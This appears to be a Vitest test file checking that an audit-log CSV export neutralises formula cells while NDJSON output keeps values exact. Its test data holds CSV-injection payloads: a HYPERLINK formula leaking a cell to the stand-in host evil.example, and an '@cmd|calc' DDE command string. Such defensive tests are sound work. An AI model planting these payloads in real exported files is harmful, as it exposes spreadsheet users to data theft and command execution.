import { describe, expect, it } from 'vitest';
import { db } from '@/lib/db/client';
import { parseCsv } from '@/lib/testing/audit-csv';
import { createTestMember, createTestOrg, memberCtx } from '@/lib/testing/factories';
import { createTestServiceAccount } from '@/lib/testing/service-account-fixtures';
import { exportAuditEvents } from './export-audit-events';
import { recordAuditEvent } from './record-audit-event';

const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

describe('audit export and CSV injection (issue 11 item 3)', () => {
  it('neutralises formula cells in CSV and keeps NDJSON exact', async () => {
    const org = await createTestOrg();
    const owner = await createTestMember(org.id, 'OWNER');
    const ctx = memberCtx(org, owner, 'OWNER');
    const account = await createTestServiceAccount(ctx, { name: HOSTILE_NAME });
    expect(account.name).toBe(HOSTILE_NAME);
    const hostile = [
      { label: HOSTILE_NAME, userAgent: '@cmd|calc' },
      { label: '+SUM(1,2)', userAgent: '-2+3' },
      { label: '\tTabbed', userAgent: '\rCarriage' },
      { label: 'plain-label', userAgent: 'curl/8.5.0' },
    ];
    for (const [i, h] of hostile.entries()) {
      await db.$transaction((tx) =>
        recordAuditEvent(tx, {
          organizationId: org.id,
          actor: { type: 'SERVICE_ACCOUNT', id: account.id, label: h.label },
          action: 'service_account.updated',
          target: { type: 'service_account', id: account.id },
          meta: { requestId: `csv-${i}`, ip: '127.0.0.1', userAgent: h.userAgent },
          details: { name: HOSTILE_NAME },
        }),
      );
    }
    const filters = { action: 'service_account.updated' } as const;

    const csv = await new Response(await exportAuditEvents(ctx, filters, 'csv')).text();
    const byRequest = new Map(parseCsv(csv).map((r) => [r.request_id, r]));
    expect(byRequest.get('csv-0')).toMatchObject({ actor_label: `'${HOSTILE_NAME}`, user_agent: "'@cmd|calc" });
    expect(byRequest.get('csv-1')).toMatchObject({ actor_label: "'+SUM(1,2)", user_agent: "'-2+3" });
    expect(byRequest.get('csv-2')).toMatchObject({ actor_label: "'\tTabbed", user_agent: "'\rCarriage" });
    // Cells that are no formula are untouched, the JSON details column included.
    expect(byRequest.get('csv-3')).toMatchObject({ actor_label: 'plain-label', user_agent: 'curl/8.5.0' });
    expect(JSON.parse(byRequest.get('csv-0')?.details ?? 'null')).toEqual({ name: HOSTILE_NAME });
    for (const record of byRequest.values())
      for (const cell of Object.values(record)) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);

    const ndjson = await new Response(await exportAuditEvents(ctx, filters, 'ndjson')).text();
    const events = ndjson
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { actor_label: string; user_agent: string });
    expect(events.map((e) => [e.actor_label, e.user_agent]).sort()).toEqual(
      hostile.map((h) => [h.label, h.userAgent]).sort(),
    );
  });
});
